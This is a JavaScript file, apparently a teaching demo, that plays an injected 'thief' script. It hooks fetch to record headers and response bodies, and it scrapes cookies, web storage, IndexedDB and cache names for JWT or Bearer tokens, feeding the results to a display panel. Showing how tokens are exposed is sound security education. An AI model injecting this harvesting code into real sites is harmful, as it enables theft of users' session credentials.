// The thief: what an injected script would do. It runs before the page's own code, listens in on every
// fetch, and looks through everything that a script can read. What it finds is what the panel shows.
"use strict";

(() => {
  /** What looks like a token: a JWT, or what stands behind "Bearer". */
  const TOKEN = /eyJ[\w-]{12,}\.[\w-]{12,}|bearer\s+[\w.~+/-]{12,}/i;
  const calls = [];
  const honest = window.fetch;

  window.fetch = async function overheard(...args) {
    const request = new Request(...args);
    const call = { method: request.method, url: new URL(request.url).pathname, sent: [...request.headers], got: [], status: 0, body: "" };
    calls.push(call);
    if (calls.length > 20) calls.shift();
    const response = await honest.apply(this, args);
    call.status = response.status;
    call.got = [...response.headers];
    try {
      call.body = await response.clone().text();
    } catch {
      call.body = "";
    }
    return response;
  };

  const stored = (storage) => Object.keys(storage).map((key) => [key, storage.getItem(key)]);

  /** Everything that can be had, as `{ place: what is there }`, and where a token was among it. */
  window.thief = async () => {
    const databases = (await indexedDB.databases?.().catch(() => [])) ?? [];
    const cacheNames = await globalThis.caches?.keys().catch(() => []) ?? [];
    const loot = {
      "document.cookie": document.cookie === "" ? [] : document.cookie.split("; ").map((pair) => pair.split("=")),
      "localStorage": stored(localStorage),
      "sessionStorage": stored(sessionStorage),
      "indexedDB": databases.map(({ name }) => [name, ""]),
      "caches": cacheNames.map((name) => [name, ""]),
    };
    const found = Object.entries(loot)
      .filter(([, entries]) => entries.some(([key, value]) => TOKEN.test(value ?? "") || /^(__Host-)?(Http-)?tokenkeep/.test(key)))
      .map(([place]) => place);
    const tapped = calls.some(({ sent, got, body }) => [...sent, ...got].some(([name, value]) => name === "authorization" || name === "set-cookie" || TOKEN.test(value)) || TOKEN.test(body));
    if (tapped || TOKEN.test(location.href)) found.push(tapped ? "fetch" : "location");
    return { loot, calls: [...calls], found };
  };
})();
